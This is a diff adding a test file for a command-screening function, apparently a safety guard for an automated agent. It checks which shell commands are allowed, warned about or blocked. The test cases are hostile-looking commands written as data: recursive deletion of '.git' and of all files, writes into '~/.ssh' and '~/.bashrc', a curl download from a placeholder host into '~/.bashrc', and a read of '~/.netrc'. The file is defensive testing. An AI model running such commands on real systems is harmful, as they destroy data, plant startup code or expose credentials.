@@ -1,0 +1,37 @@
+import { expect, it } from "vitest";
+import { judgeCommand } from "./judge-command.ts";
+
+const place = {
+  workTree: "/home/ada/project",
+  home: "/home/ada",
+  tempFolder: "/tmp",
+  cwd: "/home/ada/project",
+  store: "/home/ada/.local/state/ralph",
+  allow: [],
+};
+
+function check(command: string, expected: string): void {
+  expect(judgeCommand(command, place).decision).toBe(expected);
+}
+
+it.each([
+  ["rm -rf .git", "block"],
+  ["rm -rf .git/index.lock", "block"],
+  ["rm .git/index.lock", "allow"],
+  ["rm -f *", "block"],
+  ["rm -f *.log", "allow"],
+  ["rm /usr/bin/x", "block"],
+  ["rm ~/x", "warn"],
+  ["cp a ~/.ssh/config", "block"],
+  ["cp -t ~/.ssh a b", "block"],
+  ["cp ~/.ssh/id_rsa.pub a", "allow"],
+  ["sed s/a/b/ ~/.bashrc", "allow"],
+  ["sed -i s/a/b/ ~/.bashrc", "block"],
+  ["curl -o ~/.bashrc http://x.example", "block"],
+  ["rsync -a --delete a/ .", "block"],
+  ["grep -f ~/.netrc x", "block"],
+  ["mkdir .ralph", "allow"],
+  ["mv .ralph x", "block"],
+])("%s: %s, for it judges what is removed, written and read (R-120, R-123)", (command, expected) => {
+  check(command, expected);
+});
